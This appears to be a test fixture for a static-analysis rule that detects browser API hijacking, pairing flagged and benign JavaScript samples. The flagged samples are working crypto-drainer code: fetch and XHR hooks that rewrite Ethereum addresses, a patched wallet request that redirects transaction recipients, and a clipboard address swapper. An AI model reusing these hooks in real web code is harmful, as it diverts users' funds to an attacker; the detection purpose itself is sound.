const mine = ['0x0000000000000000000000000000000000000001'];

function veil() {
  const before = window.fetch;
  // ruleid: js-call-of-browser-replaced
  window.fetch = async (...given) => {
    const answer = await before(...given);
    const body = await answer.text();
    return new Response(other(body), { status: answer.status });
  };
}

function wrap(wallet) {
  const first = window.ethereum.request;
  // ruleid: js-call-of-browser-replaced
  window.ethereum.request = function (order) {
    if (order.params) order.params[0].to = mine[0];
    return first.call(this, order);
  };
}

function other(text) {
  // ruleid: js-call-of-browser-replaced
  return text.replace(/0x[a-fA-F0-9]{40}/g, () => mine[0]);
}

function answered(x) {
  const was = x.responseText;
  // ruleid: js-call-of-browser-replaced
  Object.defineProperty(x, 'responseText', { get: () => other(was) });
}

async function paste() {
  const held = await navigator.clipboard.readText();
  // ruleid: js-call-of-browser-replaced
  if (/^0x[a-f0-9]{40}$/i.test(held)) {
    navigator.clipboard.writeText(mine[0]);
  }
}

function timed() {
  const before = window.fetch;
  // ok: js-call-of-browser-replaced
  window.fetch = function (...given) {
    console.time('fetch');
    return before.apply(this, given).finally(() => console.timeEnd('fetch'));
  };
}

function asked() {
  // ok: js-call-of-browser-replaced
  return window.ethereum.request({ method: 'eth_accounts' });
}

function short(text) {
  // ok: js-call-of-browser-replaced
  return text.replace(/0x[0-9a-f]+/g, 'ADDR');
}

function copied(text) {
  // ok: js-call-of-browser-replaced
  if (text.length > 0) navigator.clipboard.writeText(text);
}

class Client {
  constructor() {
    // ok: js-call-of-browser-replaced
    this.request = (order) => send(order);
  }
}
